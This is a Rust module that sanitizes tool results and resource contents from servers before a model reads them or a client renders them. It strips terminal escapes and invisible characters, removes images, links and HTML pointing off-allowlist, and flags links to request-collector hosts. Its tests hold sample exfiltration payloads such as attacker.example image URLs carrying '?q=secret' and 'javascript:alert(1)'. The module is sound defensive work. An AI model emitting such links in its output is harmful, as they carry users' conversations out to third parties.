//! Data a server hands back — a tool's result, a resource's contents, an
//! error's message — is read by the model and shown by clients, often
//! rendered as markdown. It is data: code, JSON, a page of HTML the person
//! asked for. So it is not made plain text as a form is; only what no
//! reader should get is taken out:
//!
//! * **Terminal escapes and invisible characters**, by the table of step 2
//!   (see the parent module): CSI, OSC (an OSC 8 hyperlink keeps its text
//!   and loses its target), DCS and the rest whole; C0 and C1 controls
//!   except `\n`, `\t` and a `\r` that starts `\r\n` (a lone `\r`, which
//!   can make a terminal overwrite a line, becomes `\n`); bidi controls and
//!   marks, zero-width and tag characters. **Decision:** ZWNJ and ZWJ
//!   between two visible non-ASCII characters stay: there they shape a
//!   script (Persian, the Indic scripts) or join an emoji, hiding nothing.
//! * **What a renderer would fetch or link elsewhere**: markdown images
//!   and links, and raw HTML elements that carry a URL (`img`, `iframe`,
//!   `a`, `source`, …), found by a CommonMark parser as a renderer finds
//!   them, so nothing inside a code span or a code block is touched. An
//!   image whose target is not on an allowed host becomes its alt text (a
//!   renderer loads it unasked: `![x](https://attacker/?q=…)` is the
//!   classic way to carry a conversation out); a link becomes its label
//!   (unless links are allowed); an HTML element's tag is removed, its
//!   text stays. `javascript:`, `data:` (except a `data:image/` image),
//!   `file:` and every other scheme go whatever the hosts; a relative
//!   target (`/logo.png`, `#top`) stays, it resolves to the client's own
//!   origin. An autolink (`<https://…>`) shows its whole target and stays.

use std::borrow::Cow;
use std::ops::Range;
use std::sync::LazyLock;

use pulldown_cmark::{Event, Parser, Tag, TagEnd};
use regex::Regex;

use super::markdown::{apply_outermost, url_kind, OpenLink, UrlKind};
use super::unicode::{classify_char, clean_invisible, Keep};
use super::{Findings, Sanitized, TextFinding};

/// How data is cleaned: which hosts its images and links may point at.
pub(crate) struct DataPolicy<'a> {
    /// Whether the text is read for markup at all: `false` for data no
    /// renderer reads as markdown or HTML (a resource whose `mimeType` says
    /// it is code, JSON, plain text), where only characters are cleaned.
    pub(crate) markup: bool,
    /// Links (not images) to any host stay.
    pub(crate) allow_links: bool,
    /// Whether a host (lowercase ASCII, no port) may be loaded or linked.
    pub(crate) allowed_host: &'a dyn Fn(&str) -> bool,
}

impl DataPolicy<'_> {
    /// Cleans one string of data. See the module documentation.
    pub(crate) fn clean<'t>(&self, input: &'t str) -> Sanitized<'t> {
        let mut findings = Findings::default();
        let visible = visible_text(input, &mut findings);
        let marked = match self.markup {
            true => markup(&visible, self, &mut findings),
            false => None,
        };
        let out = match marked {
            Some(cleaned) => Cow::Owned(cleaned),
            None => visible,
        };
        if *out == *input {
            return Sanitized {
                text: Cow::Borrowed(input),
                findings: Vec::new(),
            };
        }
        Sanitized {
            text: Cow::Owned(out.into_owned()),
            findings: findings.to_vec(),
        }
    }
}

/// Hosts that exist to receive what is sent to them (request catchers,
/// tunnels, out-of-band testing services).
const COLLECTORS: &[&str] = &[
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "webhook.site",
    "requestcatcher.com",
    "burpcollaborator.net",
    "oast.fun",
    "oast.me",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "interact.sh",
    "pipedream.net",
    "requestbin.net",
    "beeceptor.com",
];

/// A query value this long of URL-safe characters carries data, not a
/// setting.
const CARRIED: usize = 48;

impl DataPolicy<'_> {
    /// Whether the data keeps a link to another host that looks made to
    /// carry something out when followed: a collector's host, or a query
    /// value long enough to hold encoded data. Links stay as written (a
    /// person or the model decides to follow one); this is a verdict, not a
    /// change.
    pub(crate) fn suspicious_link(&self, input: &str) -> bool {
        if !self.markup || !self.allow_links || !(input.contains("](") || input.contains("]:")) {
            return false;
        }
        Parser::new(input).any(|event| match event {
            Event::Start(Tag::Link { dest_url, .. }) => {
                self.target(&dest_url, false) == Target::Elsewhere && carries_data(&dest_url)
            }
            _ => false,
        })
    }
}

fn carries_data(dest: &str) -> bool {
    let Ok(url) = url::Url::parse(dest) else {
        return false;
    };
    let host = url.host_str().unwrap_or("").to_ascii_lowercase();
    let collector = COLLECTORS
        .iter()
        .any(|c| host == *c || host.strip_suffix(c).is_some_and(|s| s.ends_with('.')));
    let payload = |s: &str| {
        s.split(['&', '=', '#']).any(|v| {
            v.len() >= CARRIED
                && v.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"+/%-_.".contains(&b))
        })
    };
    collector || url.query().is_some_and(payload) || url.fragment().is_some_and(payload)
}

/// Whether a string of data could need any work: a control character
/// other than `\n` and `\t`, a character of the invisible table, or the
/// markup a link or an element needs (`](`, `]:`, `<`). The clean path of
/// [`DataPolicy::clean`] is this one scan.
pub(crate) fn data_needs_work(s: &str) -> bool {
    let bytes = s.as_bytes();
    for (i, &b) in bytes.iter().enumerate() {
        match b {
            b'\t' | b'\n' => {}
            0..=0x1f | 0x7f | b'<' => return true,
            b']' if matches!(bytes.get(i + 1), Some(b'(' | b':')) => return true,
            _ => {}
        }
    }
    !s.is_ascii() && s.chars().any(|c| classify_char(c).is_some())
}

/// Step one: terminal escapes, controls and invisible characters out; a
/// joiner that shapes a script or an emoji and a `\r\n` stay as written.
fn visible_text<'a>(s: &'a str, findings: &mut Findings) -> Cow<'a, str> {
    let keep = Keep {
        joiners: true,
        crlf: true,
    };
    clean_invisible(s, findings, keep)
}

/// What a target is to the renderer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Target {
    /// Relative, a fragment, an allowed host, an inline image.
    Stays,
    /// A host the policy does not allow (or none that can be read).
    Elsewhere,
    /// A scheme that is no web address (`javascript:`, `file:`, …).
    Dangerous,
}

impl DataPolicy<'_> {
    fn target(&self, raw: &str, image: bool) -> Target {
        let dest: String = raw
            .chars()
            .filter(|c| !(c.is_whitespace() || c.is_control()))
            .collect();
        let dest = dest.trim_start_matches('<').trim_end_matches('>');
        let network_path = ["//", "\\\\", "/\\", "\\/"]
            .iter()
            .any(|p| dest.starts_with(p));
        if network_path {
            return self.host_of(&format!("https:{dest}"));
        }
        // `std::vec::Vec`, `crate::Foo`: a path of code (a Rust doc link),
        // which no browser opens as a scheme.
        let code_path = dest
            .find(':')
            .is_some_and(|i| dest[i + 1..].starts_with(':'));
        match url_kind(dest) {
            UrlKind::Relative => Target::Stays,
            UrlKind::Forbidden if code_path => Target::Stays,
            UrlKind::Forbidden => {
                let lower = dest.to_ascii_lowercase();
                if image && lower.starts_with("data:image/") {
                    Target::Stays
                } else {
                    Target::Dangerous
                }
            }
            UrlKind::Allowed => {
                let web = dest.get(..5).is_some_and(|s| {
                    s.eq_ignore_ascii_case("http:") || s.eq_ignore_ascii_case("https")
                });
                if web {
                    self.host_of(dest)
                } else {
                    Target::Elsewhere // mailto:
                }
            }
        }
    }

    fn host_of(&self, url: &str) -> Target {
        let host = url::Url::parse(url)
            .ok()
            .and_then(|u| u.host_str().map(str::to_ascii_lowercase));
        match host {
            Some(h) if (self.allowed_host)(&h) => Target::Stays,
            _ => Target::Elsewhere,
        }
    }

    /// Whether a link or image to `target` is taken out.
    fn removes(&self, target: Target, image: bool) -> bool {
        match target {
            Target::Stays => false,
            Target::Dangerous => true,
            Target::Elsewhere => image || !self.allow_links,
        }
    }
}

fn record(findings: &mut Findings, target: Target) {
    findings.add(match target {
        Target::Dangerous => TextFinding::DangerousLink,
        _ => TextFinding::ExternalLink,
    });
}

/// Step two: images, links and elements that point elsewhere. Nested ones
/// are rewritten on the next pass. `None` when nothing changed.
fn markup(s: &str, policy: &DataPolicy<'_>, findings: &mut Findings) -> Option<String> {
    if !data_needs_work(s) {
        return None;
    }
    let mut owned: Option<String> = None;
    for _ in 0..8 {
        let src = owned.as_deref().unwrap_or(s);
        match markup_pass(src, policy, findings) {
            Some(next) => owned = Some(next),
            None => break,
        }
    }
    owned
}

fn markup_pass(s: &str, policy: &DataPolicy<'_>, findings: &mut Findings) -> Option<String> {
    let mut stack: Vec<OpenLink> = Vec::new();
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    // Where the images taken out pointed: a reference definition they used
    // goes with them, even where links stay.
    let mut images_out: Vec<String> = Vec::new();
    // Text a lenient renderer could still take for a tag (`<img src=a?b=c>`
    // is no tag to CommonMark), outside code blocks.
    let mut text: Option<Range<usize>> = None;
    let mut in_code = false;
    let mut events = Parser::new(s).into_offset_iter();
    for (event, range) in events.by_ref() {
        OpenLink::widen(&mut stack, &event, &range);
        if let Event::Text(_) = event {
            if !in_code {
                let run = text.get_or_insert(range.clone());
                run.end = range.end;
                continue;
            }
        }
        if let Some(run) = text.take() {
            html_edits(s, run, policy, findings, &mut edits);
        }
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Start(Tag::Image { .. } | Tag::Link { .. }) => {
                stack.extend(OpenLink::opened(&event, &range));
            }
            Event::End(TagEnd::Image | TagEnd::Link) => {
                let Some(open) = stack.pop() else { continue };
                if open.autolink {
                    continue;
                }
                let target = policy.target(&open.dest, open.image);
                if policy.removes(target, open.image) {
                    record(findings, target);
                    let label = open.label.map_or("", |r| &s[r]);
                    edits.push((open.whole, label.to_owned()));
                    if open.image {
                        images_out.push(open.dest);
                    }
                }
            }
            Event::Html(_) | Event::InlineHtml(_) => {
                html_edits(s, range, policy, findings, &mut edits)
            }
            _ => {}
        }
    }
    if let Some(run) = text.take() {
        html_edits(s, run, policy, findings, &mut edits);
    }
    // A definition whose target would be taken out from a link goes too
    // (inert once nothing refers to it, but it still spells the target), and
    // so does one an image taken out pointed through.
    for (_, def) in events.reference_definitions().iter() {
        let target = policy.target(&def.dest, false);
        if policy.removes(target, false) || images_out.iter().any(|d| **d == *def.dest) {
            record(findings, target);
            edits.push((def.span.clone(), String::new()));
        }
    }
    (!edits.is_empty()).then(|| apply_outermost(s, edits))
}

/// Edits removing the tags in `s[range]` whose URL is taken out.
fn html_edits(
    s: &str,
    range: Range<usize>,
    policy: &DataPolicy<'_>,
    findings: &mut Findings,
    edits: &mut Vec<(Range<usize>, String)>,
) {
    let Some(html) = s.get(range.clone()) else {
        return;
    };
    if !html.contains('<') {
        return;
    }
    for (tag, target) in elements(html, policy) {
        record(findings, target);
        edits.push((
            range.start + tag.start..range.start + tag.end,
            String::new(),
        ));
    }
}

/// A tag and its attributes (`<img src=… alt=…>`).
static TAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"<[A-Za-z][A-Za-z0-9:-]*(?:[^>"']|"[^"]*"|'[^']*')*>"#).expect("tag regex")
});

/// An attribute a browser fetches or follows.
static URL_ATTR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i)[\s"'/](src|href|srcset|poster|data|action|formaction|background|xlink:href|ping|cite|longdesc|manifest|codebase|archive)"#,
        r#"\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)"#,
    ))
    .expect("url attribute regex")
});

/// The tags of raw HTML (range within `html`) with a URL that is taken out.
fn elements(html: &str, policy: &DataPolicy<'_>) -> Vec<(Range<usize>, Target)> {
    let mut out = Vec::new();
    for tag in TAG.find_iter(html) {
        let name = tag.as_str()[1..]
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == ':' || c == '-'))
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        let image = name != "a" && name != "form";
        let mut worst = Target::Stays;
        for attr in URL_ATTR.captures_iter(tag.as_str()) {
            let value = attr[2].trim_matches(['"', '\'']);
            let srcset = attr[1].eq_ignore_ascii_case("srcset");
            let urls: Vec<&str> = if srcset {
                value
                    .split(',')
                    .filter_map(|c| c.split_whitespace().next())
                    .collect()
            } else {
                vec![value]
            };
            for url in urls {
                // A character reference could spell anything: read as elsewhere.
                let target = match url.contains('&') {
                    true if !url.contains('#') && !url.contains(';') => policy.target(url, image),
                    true => Target::Elsewhere,
                    false => policy.target(url, image),
                };
                if policy.removes(target, image) && worst != Target::Dangerous {
                    worst = target;
                }
            }
        }
        if worst != Target::Stays {
            out.push((tag.range(), worst));
        }
    }
    out
}

/// Build this module's shipped tables now ([`crate::policy::warm`]).
pub(crate) fn warm() {
    LazyLock::force(&TAG);
    LazyLock::force(&URL_ATTR);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(s: &str) -> Sanitized<'_> {
        let policy = DataPolicy {
            markup: true,
            allow_links: false,
            allowed_host: &|h: &str| h == "docs.example.com",
        };
        policy.clean(s)
    }

    #[test]
    fn data_stays_as_written() {
        for s in [
            "fn main() { if a < b && c > d { println!(\"{}\", x<y); } }",
            "<b>bold</b> and List<String> and 5 < 6",
            "line one\r\nline two\n\ttabbed",
            "see [the docs](https://docs.example.com/a?b=c) and ![logo](/logo.png)",
            "[top](#top) <https://anywhere.example/x?q=1>",
            "```\n![x](https://attacker.example/?q=1)\n```",
            "inline `![x](https://attacker.example/)` code",
            "می\u{200c}خواهم 👨\u{200D}👩\u{200D}👧 नमस्\u{200d}ते",
            "{\"a\": [1, 2], \"b\": \"]\"}",
            "![chart](data:image/png;base64,iVBORw0KGgo=)",
            "/// Returns a [`Vec`](std::vec::Vec) of [`Room`](crate::Room)s.",
        ] {
            let out = clean(s);
            assert!(!out.is_changed(), "{s:?} → {:?}", out.text);
            assert!(out.findings.is_empty());
        }
    }

    #[test]
    fn what_a_renderer_would_fetch_or_follow_elsewhere_goes() {
        let cases = [
            ("a ![x](https://attacker.example/p?q=secret) b", "a x b"),
            ("![](https://attacker.example/p.gif)", ""),
            ("![x](//attacker.example/p.gif)", "x"),
            ("![x](<https://attacker.example/a b>)", "x"),
            ("![x][r]\n\n[r]: https://attacker.example/p", "x\n\n"),
            ("<IMG SRC=//attacker.example/p?q=1>", ""),
            ("see [here](https://attacker.example/?q=1)", "see here"),
            ("[x](javascript:alert(1))", "x"),
            ("[x](mailto:a@attacker.example?body=secret)", "x"),
            ("![a [b] c](https://attacker.example/)", "a [b] c"),
            (
                "[![i](https://attacker.example/i)](https://docs.example.com/)",
                "[i](https://docs.example.com/)",
            ),
            (
                "x <img src=\"https://attacker.example/?q=1\" alt=y> z",
                "x  z",
            ),
            ("<IMG SRC='//attacker.example/p'>", ""),
            (
                "<img srcset=\"/a.png 1x, https://attacker.example/b.png 2x\">",
                "",
            ),
            (
                "<iframe src=https://attacker.example/></iframe>",
                "</iframe>",
            ),
            ("<img src=\"&#104;ttps://attacker.example/\">", ""),
            ("![x](HTTPS://ATTACKER.EXAMPLE/)", "x"),
        ];
        for (input, want) in cases {
            let out = clean(input);
            assert_eq!(out.text, want, "{input:?}");
            assert!(!out.findings.is_empty(), "{input:?}");
        }
        assert_eq!(
            clean("[x](javascript:alert(1))").findings,
            vec![TextFinding::DangerousLink]
        );
        assert_eq!(
            clean("![x](https://a.example/)").findings,
            vec![TextFinding::ExternalLink]
        );
    }

    #[test]
    fn allowed_links_stay_but_images_never_go_elsewhere() {
        let policy = DataPolicy {
            markup: true,
            allow_links: true,
            allowed_host: &|_: &str| false,
        };
        let s = "[docs](https://other.example/) ![p](https://other.example/p)";
        assert_eq!(policy.clean(s).text, "[docs](https://other.example/) p");
        assert_eq!(policy.clean("[x](javascript:alert(1))").text, "x");
    }

    #[test]
    fn terminal_and_invisible_characters_go() {
        let cases = [
            ("\x1b[31mred\x1b[0m", "red", TextFinding::AnsiEscape),
            (
                "\x1b]8;;https://attacker.example/?q=1\x1b\\click\x1b]8;;\x1b\\",
                "click",
                TextFinding::AnsiEscape,
            ),
            (
                "\u{9d}8;;https://attacker.example\u{9c}x",
                "x",
                TextFinding::AnsiEscape,
            ),
            ("pay\u{200b}pal", "paypal", TextFinding::ZeroWidth),
            ("a\u{200d}b", "ab", TextFinding::ZeroWidth),
            ("\u{202e}txt.exe", "txt.exe", TextFinding::Bidi),
            ("hi\u{e0049}\u{e0067}", "hi", TextFinding::TagChar),
            ("over\rwrite", "over\nwrite", TextFinding::ControlChar),
            ("nul\u{0}bell\u{7}", "nulbell", TextFinding::ControlChar),
        ];
        for (input, want, finding) in cases {
            let out = clean(input);
            assert_eq!(out.text, want, "{input:?}");
            assert_eq!(out.findings, vec![finding], "{input:?}");
        }
    }

    #[test]
    fn the_clean_path_is_one_scan_that_misses_nothing_cleaning_would_change() {
        let samples = [
            "plain", "a]b", "a] (b)", "x\r\ny", "\u{200c}", "é", "<", "](", "]:",
        ];
        for s in samples {
            if !data_needs_work(s) {
                assert!(!clean(s).is_changed(), "{s:?}");
            }
        }
        assert!(!data_needs_work(
            "plain text, code: a[0] = b[1];\n\t{\"k\": 1}"
        ));
    }
}
